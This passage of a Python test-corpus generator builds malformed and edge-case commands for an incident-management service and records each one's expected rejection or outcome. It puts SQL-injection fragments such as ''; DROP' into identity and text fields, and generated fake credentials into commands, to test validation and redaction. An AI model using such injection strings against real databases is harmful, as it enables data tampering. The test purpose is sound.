        "type": "annotate",
        "incidentKey": target,
        "actor": {"type": "human", "id": "alice", "roles": ["ONCALL_ENGINEER"]},
        "issuedAt": "2024-05-02T00:00:00Z",
        "note": f"note {number}",
    }
    command.update(changes)
    return {k: v for k, v in command.items() if v is not DELETE}


def command_kind(name: str) -> Callable[[CommandBuilder], CommandBuilder]:
    def register(build: CommandBuilder) -> CommandBuilder:
        COMMAND_KINDS[name] = build
        return build

    return register


def _dead(name: str, value: bytes | None, reason: str, **extra: Any) -> list[Case]:
    return [Case(name, "command", value, reason, **extra)]


def _outcome(name: str, command: dict[str, Any], outcome: str, reason: str | None = None,
             **extra: Any) -> list[Case]:  # fmt: skip
    return [Case(name, "command", dumps(command), None, payload=command,
                 command=(outcome, reason), **extra)]  # fmt: skip


#: One field of a good command changed (DELETE: removed): each is a schema_violation.
COMMAND_SCHEMA_MUTATIONS: dict[str, dict[str, Any]] = {
    "unknown_verb": {"type": "detonate"},
    "verb_of_a_signal_only": {"type": "recover"},
    "missing_actor": {"actor": DELETE},
    "actor_roles_not_a_list": {"actor": {"type": "human", "id": "a", "roles": "ORG_ADMIN"}},
    "ten_thousand_roles": {"actor": {"type": "human", "id": "a", "roles": ["R"] * 10_000}},
    "unknown_actor_type": {"actor": {"type": "robot", "id": "a", "roles": []}},
    "command_id_of_10_kb": {"commandId": "c" * 10_240},
    "empty_command_id": {"commandId": ""},
    "naive_issued_at": {"issuedAt": "2024-05-02T00:00:00"},
    "issued_at_as_epoch_number": {"issuedAt": 1714608000},
    "incident_id_not_a_uuid": {"incidentKey": DELETE, "incidentId": "not-a-uuid-'; DROP"},
    "both_incident_id_and_key": {"incidentId": "9b2f8f4e-0c4f-4c1e-8d7a-0f0e6d1c2b3a"},
    "neither_incident_id_nor_key": {"incidentKey": DELETE},
    "change_severity_without_severity": {"type": "change_severity", "rationale": "r"},
    "change_severity_to_an_unknown_level": {"type": "change_severity", "rationale": "r",
                                            "severity": "PURPLE"},
    "annotate_without_note": {"note": DELETE},
    "annotate_with_empty_note": {"note": ""},
    "expected_seq_negative": {"expectedSeq": -1},
    "expected_seq_as_string": {"expectedSeq": "3"},
    "expected_seq_as_float": {"expectedSeq": 3.0},
    "expected_seq_over_int32": {"expectedSeq": 2**31},
    "rationale_over_5000_characters": {"rationale": "r" * 5001},
    "note_over_5000_characters": {"note": "n" * 5001},
    "escaped_nul_in_note": {"note": "before\u0000after"},
}  # fmt: skip


def _command_mutation(name: str, change: dict[str, Any]) -> CommandBuilder:
    def build(number: int, target: str, rng: random.Random) -> list[Case]:
        return _dead(name, dumps(good_command(number, target, **change)), "schema_violation")

    return build


for _name, _change in COMMAND_SCHEMA_MUTATIONS.items():
    COMMAND_KINDS[_name] = _command_mutation(_name, _change)


@command_kind("expected_seq_nan")
def _seq_nan(number: int, target: str, rng: random.Random) -> list[Case]:
    value = dumps(good_command(number, target))[:-1] + b', "expectedSeq": NaN}'
    return _dead("expected_seq_nan", value, "invalid_json")


@command_kind("duplicate_keys_in_a_command")
def _command_duplicate_keys(number: int, target: str, rng: random.Random) -> list[Case]:
    value = dumps(good_command(number, target))[:-1] + b', "type": "close"}'
    return _dead("duplicate_keys_in_a_command", value, "invalid_json")


@command_kind("invalid_utf8_in_a_command")
def _command_utf8(number: int, target: str, rng: random.Random) -> list[Case]:
    value = dumps(good_command(number, target))[:-1] + b', "note": "\xff\xfe"}'
    return _dead("invalid_utf8_in_a_command", value, "invalid_encoding")


@command_kind("command_as_a_top_level_array")
def _command_array(number: int, target: str, rng: random.Random) -> list[Case]:
    value = b"[" + dumps(good_command(number, target)) + b"]"
    return _dead("command_as_a_top_level_array", value, "schema_violation")


@command_kind("truncated_command")
def _command_truncated(number: int, target: str, rng: random.Random) -> list[Case]:
    value = dumps(good_command(number, target))
    return _dead("truncated_command", value[: len(value) // 2], "invalid_json")


@command_kind("command_tombstone")
def _command_tombstone(number: int, target: str, rng: random.Random) -> list[Case]:
    return _dead("command_tombstone", None, "empty_value")


@command_kind("two_megabyte_command")
def _command_two_mb(number: int, target: str, rng: random.Random) -> list[Case]:
    value = dumps({**good_command(number, target), "padding": "p" * (2 * 1024 * 1024)})
    return _dead("two_megabyte_command", value, "too_large", phase="oversize",
                 value_may_be_omitted=True)  # fmt: skip


@command_kind("secrets_in_a_malformed_command")
def _command_secrets_dead(number: int, target: str, rng: random.Random) -> list[Case]:
    secrets = make_secrets(rng)
    command = good_command(number, target, type="explode", rationale=secret_text(secrets),
                           note=secret_text(secrets))  # fmt: skip
    return _dead("secrets_in_a_malformed_command", dumps(command), "schema_violation",
                 secrets=tuple(secrets.values()))  # fmt: skip


# Credentials in identity fields: refused (dead letters), never redacted.


@command_kind("credential_as_the_command_id")
def _credential_command_id(number: int, target: str, rng: random.Random) -> list[Case]:
    """Identity fields are refused, not redacted: a redacted commandId would merge commands."""
    secret = make_secrets(rng)["jwt"]
    command = good_command(number, target, commandId=secret)
    return _dead("credential_as_the_command_id", dumps(command), "schema_violation",
                 secrets=(secret,))  # fmt: skip


@command_kind("credential_as_the_actor_id")
def _credential_actor(number: int, target: str, rng: random.Random) -> list[Case]:
    secret = make_secrets(rng)["github_token"]
    command = good_command(number, target,
                           actor={"type": "service", "id": secret, "roles": ["ONCALL_ENGINEER"]})  # fmt: skip
    return _dead("credential_as_the_actor_id", dumps(command), "schema_violation",
                 secrets=(secret,))  # fmt: skip


@command_kind("credential_as_a_role")
def _credential_role(number: int, target: str, rng: random.Random) -> list[Case]:
    secret = make_secrets(rng)["aws_access_key"]
    command = good_command(number, target, type="acknowledge",
                           actor={"type": "human", "id": "alice", "roles": [secret]})  # fmt: skip
    return _dead("credential_as_a_role", dumps(command), "schema_violation", secrets=(secret,))


@command_kind("credential_in_the_target_key")
def _credential_target(number: int, target: str, rng: random.Random) -> list[Case]:
    """An unknown incidentKey holding a token: refused before its receipt could echo it."""
    secret = make_secrets(rng)["github_token"]
    command = good_command(number, target, incidentKey=f"{target}:{secret}")
    return _dead("credential_in_the_target_key", dumps(command), "schema_violation",
                 secrets=(secret,))  # fmt: skip


# Valid commands: each must end with its outcome, never on the dead-letter topic.


@command_kind("far_future_issued_at")
def _far_future(number: int, target: str, rng: random.Random) -> list[Case]:
    """`issuedAt` beyond the worker's clock plus the allowed skew (300 s by default)."""
    command = good_command(number, target, issuedAt="2999-12-31T23:59:59Z")
    return _outcome("far_future_issued_at", command, "rejected", "issued_in_future")


@command_kind("issued_at_in_1970")
def _issued_1970(number: int, target: str, rng: random.Random) -> list[Case]:
    """Before the incident's first signal: applied, it would acknowledge before the incident."""
    command = good_command(number, target, type="acknowledge", issuedAt="1970-01-01T00:00:00Z")
    return _outcome("issued_at_in_1970", command, "rejected", "issued_before_incident")


@command_kind("sql_in_every_string_field")
def _command_sql(number: int, target: str, rng: random.Random) -> list[Case]:
    command = good_command(
        number, target, commandId=f"c-{number} {SQL}", rationale=SQL, note=SQL,
        actor={"type": "service", "id": f"bot {SQL}", "roles": [SQL, "ONCALL_ENGINEER"]},
    )  # fmt: skip
    return _outcome("sql_in_every_string_field", command, "applied")


@command_kind("sql_in_the_incident_key")
def _command_sql_key(number: int, target: str, rng: random.Random) -> list[Case]:
    command = good_command(number, target, incidentKey=f"{target}{SQL}", type="acknowledge")
    return _outcome("sql_in_the_incident_key", command, "rejected", "unknown_incident")


@command_kind("unicode_edge_cases_in_every_string_field")
def _command_unicode(number: int, target: str, rng: random.Random) -> list[Case]:
    command = good_command(
        number, target, commandId=f"c-{number} {UNICODE}", rationale=UNICODE, note=UNICODE,
        actor={"type": "human", "id": UNICODE, "roles": [UNICODE]},
    )  # fmt: skip
    return _outcome("unicode_edge_cases_in_every_string_field", command, "applied")


@command_kind("fields_exactly_at_their_limits")
def _command_limits(number: int, target: str, rng: random.Random) -> list[Case]:
    command = good_command(
        number, target, commandId=f"c-{number}-".ljust(128, "x"), note="n" * 5000,
        rationale="r" * 5000,
        actor={"type": "human", "id": "a", "roles": [f"R{n}" for n in range(64)]},
    )  # fmt: skip
    return _outcome("fields_exactly_at_their_limits", command, "applied")


@command_kind("secrets_in_rationale_and_note")
def _command_secrets(number: int, target: str, rng: random.Random) -> list[Case]:
    secrets = make_secrets(rng)
    command = good_command(number, target, rationale=secret_text(secrets),
                           note=secret_text(secrets))  # fmt: skip
    return _outcome("secrets_in_rationale_and_note", command, "applied",
                    secrets=tuple(secrets.values()))  # fmt: skip


@command_kind("subtle_secrets_in_rationale_and_note")
def _command_subtle_secrets(number: int, target: str, rng: random.Random) -> list[Case]:
    secrets = make_subtle_secrets(rng)
    del secrets["key_token"]  # no key to put it in: the free texts are strings
    text = (f"deploy failed: aws {secrets['aws_access_key']} {secrets['aws_secret_key']} "
            f"jwt {secrets['spaced_jwt']}")  # fmt: skip
    command = good_command(number, target, rationale=text, note=text)
    return _outcome("subtle_secrets_in_rationale_and_note", command, "applied",
                    secrets=tuple(secrets.values()))  # fmt: skip


@command_kind("unknown_incident_id")
def _command_unknown_id(number: int, target: str, rng: random.Random) -> list[Case]:
    command = good_command(number, target, incidentKey=DELETE,
                           incidentId="00000000-0000-4000-8000-000000000000")  # fmt: skip
    return _outcome("unknown_incident_id", command, "rejected", "unknown_incident")


@command_kind("viewer_acknowledges")
def _command_viewer(number: int, target: str, rng: random.Random) -> list[Case]:
    command = good_command(number, target, type="acknowledge",
                           actor={"type": "human", "id": "v", "roles": ["VIEWER"]})  # fmt: skip
    return _outcome("viewer_acknowledges", command, "rejected", "not_authorized")


@command_kind("oncall_changes_severity")
def _command_oncall_severity(number: int, target: str, rng: random.Random) -> list[Case]:
    command = good_command(number, target, type="change_severity", severity="YELLOW",
                           rationale="r")  # fmt: skip
    return _outcome("oncall_changes_severity", command, "rejected", "not_authorized")


@command_kind("resolve_without_rationale")
def _command_resolve(number: int, target: str, rng: random.Random) -> list[Case]:
    command = good_command(number, target, type="resolve")
    return _outcome("resolve_without_rationale", command, "rejected", "rationale_required")


@command_kind("cancel_with_a_blank_rationale")
def _command_cancel(number: int, target: str, rng: random.Random) -> list[Case]:
    command = good_command(number, target, type="cancel", rationale=" \t\n ")
    return _outcome("cancel_with_a_blank_rationale", command, "rejected", "rationale_required")


@command_kind("transition_not_in_the_table")
def _command_transition(number: int, target: str, rng: random.Random) -> list[Case]:
    command = good_command(number, target, type="mark_mitigated")  # OPEN, not MITIGATING
    return _outcome("transition_not_in_the_table", command, "rejected", "transition_not_allowed")


@command_kind("stale_expected_seq")
def _command_stale(number: int, target: str, rng: random.Random) -> list[Case]:
    command = good_command(number, target, expectedSeq=999_999)
    return _outcome("stale_expected_seq", command, "rejected", "stale")


@command_kind("command_id_reused_with_other_content")
def _command_reused(number: int, target: str, rng: random.Random) -> list[Case]:
    first = good_command(number, target, commandId=f"reused-{number}")
    again = good_command(number, target, commandId=f"reused-{number}", note="other content")
    return [
        *_outcome("command_id_reused_with_other_content", first, "applied"),
        *_outcome("command_id_reused_with_other_content", again, "rejected",
                  "idempotency_key_reused"),
    ]  # fmt: skip


def build_command_corpus(seed: int, targets: list[str], *, first: int = 50_000) -> list[Case]:
    """Every command kind once, against `targets` (existing incidents, in turn); each case's
    Kafka key is its target. The cases are produced in this order on one partition."""
    rng = random.Random(seed * 17 + 3)
    cases: list[Case] = []
    for number, build in enumerate(COMMAND_KINDS.values(), start=first):
        target = targets[number % len(targets)]
        for case in build(number, target, rng):
            headers = (("corpus-case", f"{case.kind}/command".encode()),)
            cases.append(dataclasses.replace(case, key=target.encode(), headers=headers))
    return cases
